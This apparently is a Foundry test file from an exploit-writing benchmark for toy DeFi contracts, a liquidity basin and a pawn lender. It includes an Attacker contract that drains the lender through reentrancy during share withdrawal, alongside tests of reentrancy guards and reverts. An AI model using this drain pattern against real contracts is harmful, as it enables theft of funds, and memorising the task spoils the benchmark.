// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./AmberPawn.sol";

// assay-canary-36722e81-1661-40fb-a10c-75cbadb60ddf

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
}

contract Grain is IGrain {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Answers for a basin, and passes no shares on.
contract Silted {
    function backing() external pure returns (uint256, uint256) {
        return (0, 0);
    }

    function passFrom(address, address, uint256) external pure returns (bool) {
        return false;
    }
}

/// Borrows while its own shares are being paid out.
/// Comes back while it is paid.
contract Stirrer {
    AmberBasin internal basin;
    bytes internal again;

    constructor(AmberBasin basin_, Grain grain) payable {
        basin = basin_;
        grain.approve(address(basin_), type(uint256).max);
    }

    receive() external payable {
        if (again.length == 0) return;
        (bool ok, bytes memory why) = address(basin).call(again);
        require(!ok && bytes4(why) == AmberBasin.Stirring.selector, "let through");
    }

    function stir(bytes calldata again_) external {
        again = "";
        basin.pour{value: 1 ether}(1e18);
        again = again_;
        basin.scoop(0.5 ether);
    }
}

contract Attacker {
    AmberBasin internal basin;
    AmberPawn internal pawn;
    bool internal scooping;

    constructor(AmberPawn pawn_, Grain grain) {
        (pawn, basin) = (pawn_, pawn_.basin());
        grain.approve(address(basin), type(uint256).max);
        basin.allow(address(pawn_), type(uint256).max);
    }

    receive() external payable {
        if (!scooping) return;
        scooping = false;
        uint256 limit = pawn.limitOf(address(this));
        uint256 most = address(pawn).balance;
        pawn.borrow(limit < most ? limit : most);
    }

    function run() external {
        basin.pour{value: 501 ether}(501e18);
        pawn.pledge(1 ether);
        scooping = true;
        basin.scoop(500 ether);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant INGA = address(0x16A);

    Grain internal grain;
    AmberBasin internal basin;
    AmberPawn internal pawn;
    Attacker internal cormorant;

    receive() external payable {}

    function setUp() public {
        grain = new Grain();
        basin = new AmberBasin(grain);
        vm.deal(address(this), 8 ether);
        pawn = new AmberPawn{value: 8 ether}(basin, 1 ether);
        vm.deal(INGA, 10 ether);
        grain.mint(INGA, 10e18);
        vm.prank(INGA);
        grain.approve(address(basin), type(uint256).max);
        vm.prank(INGA);
        basin.pour{value: 5 ether}(5e18);
        cormorant = new Attacker(pawn, grain);
        vm.deal(address(cormorant), 501 ether);
        grain.mint(address(cormorant), 501e18);
    }

    function test_Regular() public {
        vm.prank(INGA);
        basin.allow(address(pawn), 5 ether);
        vm.prank(INGA);
        pawn.pledge(2 ether);
        require(pawn.limitOf(INGA) == 2 ether, "half of four");
        vm.prank(INGA);
        require(!_try(address(pawn), abi.encodeCall(pawn.borrow, (2 ether + 1))), "above half");
        vm.prank(INGA);
        pawn.borrow(1.5 ether);
        require(INGA.balance == 6.5 ether, "lent");
        vm.prank(INGA);
        require(!_try(address(pawn), abi.encodeCall(pawn.release, (1 ether))), "needed");

        vm.prank(INGA);
        uint256 out = basin.grainForEther{value: 1 ether}(0.8e18);
        require(out > 0.8e18 && basin.grainHeld() == 5e18 - out, "swapped");
        require(pawn.limitOf(INGA) >= 2 ether && pawn.limitOf(INGA) < 2.01 ether, "a trade does not lift the limit");
        vm.prank(INGA);
        require(!_try(address(basin), abi.encodeCall(basin.etherForGrain, (1e18, 3 ether))), "least");
        vm.prank(INGA);
        require(basin.etherForGrain(out, 0.9 ether) < 1 ether, "swapped back");

        vm.prank(INGA);
        pawn.repay{value: 1.5 ether}();
        vm.prank(INGA);
        pawn.release(2 ether);
        vm.prank(INGA);
        (uint256 e, uint256 g) = basin.scoop(5 ether);
        require(e > 5 ether && g >= 5e18 && basin.shares() == 0, "scooped with the fees");
        pawn.takeOut(8 ether);
        require(address(this).balance == 8 ether, "house money");

        pawn.setGrainPrice(2 ether);
        require(pawn.grainPrice() == 2 ether, "price of the day");
    }

    function _try(address to, bytes memory data) private returns (bool ok) {
        (ok, ) = to.call(data);
    }

    /// Ether of the house, with the open loan at what is owed or at what its pledge is worth, whichever is less.
    function houseHas() public view returns (uint256) {
        uint256 loan = pawn.owed(address(cormorant));
        uint256 worth = 2 * pawn.limitOf(address(cormorant));
        return address(pawn).balance + (loan < worth ? loan : worth);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The basin is still while it pays.
    function test_RefusesStirring() public {
        vm.deal(address(this), 4 ether);
        Stirrer stirrer = new Stirrer{value: 4 ether}(basin, grain);
        grain.mint(address(stirrer), 20e18);
        stirrer.stir(abi.encodeCall(basin.pour, (0.25e18)));
        stirrer.stir(abi.encodeCall(basin.scoop, (0.1 ether)));
        stirrer.stir(abi.encodeCall(basin.etherForGrain, (0.1e18, 0)));
    }

    /// The same, for trades and passing on.
    function test_RefusesStirringInTrades() public {
        vm.deal(address(this), 4 ether);
        Stirrer stirrer = new Stirrer{value: 4 ether}(basin, grain);
        grain.mint(address(stirrer), 20e18);
        stirrer.stir(abi.encodeCall(basin.grainForEther, (0)));
        stirrer.stir(abi.encodeCall(basin.passFrom, (address(stirrer), INGA, 0.1 ether)));
    }

    /// Nothing for nothing, and grain and ether in proportion.
    function test_RefusesAmounts() public {
        refuses(INGA, AmberBasin.Nothing.selector);
        basin.pour(1e18);
        refuses(INGA, AmberBasin.Nothing.selector);
        basin.pour{value: 1 ether}(0);
        refuses(INGA, AmberBasin.Unbalanced.selector);
        basin.pour{value: 1 ether}(2e18);
        refuses(INGA, AmberBasin.Nothing.selector);
        basin.scoop(0);
        refuses(INGA, AmberBasin.Nothing.selector);
        basin.etherForGrain(0, 0);
        refuses(INGA, AmberBasin.Nothing.selector);
        basin.grainForEther(0);
        refuses(INGA, AmberBasin.Nothing.selector);
        basin.grainForEther{value: 1 ether}(1e18);
    }

    /// Moves that fail, and what the house alone does.
    function test_RefusesMoves() public {
        grain.sleep(true);
        refuses(INGA, AmberBasin.MoveFailed.selector);
        basin.pour{value: 1 ether}(1e18);
        refuses(INGA, AmberBasin.MoveFailed.selector);
        basin.scoop(1 ether);
        refuses(INGA, AmberBasin.MoveFailed.selector);
        basin.etherForGrain(1e18, 0);
        refuses(INGA, AmberBasin.MoveFailed.selector);
        basin.grainForEther{value: 1 ether}(0);
        grain.sleep(false);
        vm.prank(INGA);
        basin.passFrom(INGA, address(grain), 2 ether);
        refuses(address(grain), AmberBasin.MoveFailed.selector);
        basin.scoop(1 ether);
        refuses(INGA, AmberPawn.HouseOnly.selector);
        pawn.setGrainPrice(1);
        refuses(INGA, AmberPawn.HouseOnly.selector);
        pawn.takeOut(1);
        vm.deal(address(pawn), 0);
        vm.expectRevert(AmberPawn.Unmoved.selector);
        pawn.takeOut(1);
        vm.prank(INGA);
        basin.allow(address(pawn), 2 ether);
        vm.prank(INGA);
        pawn.pledge(2 ether);
        refuses(INGA, AmberPawn.Unmoved.selector);
        pawn.borrow(1);
    }

    /// Shares that the basin does not pass on.
    function test_RefusesSharesThatStay() public {
        AmberPawn other = new AmberPawn(AmberBasin(payable(address(new Silted()))), 1 ether);
        vm.expectRevert(AmberPawn.Unmoved.selector);
        other.pledge(0);
        vm.expectRevert(AmberPawn.Unmoved.selector);
        other.release(0);
    }

    function exploit() public {
        cormorant.run();
    }

    function test_Exploit() public {
        require(houseHas() == 8 ether, "house");
        exploit();
        require(address(pawn).balance == 0 && houseHas() < 2.1 ether, "loan is covered");
    }

    function target() public view returns (address) {
        return address(pawn);
    }

    function attacker() public view returns (address) {
        return address(cormorant);
    }
}
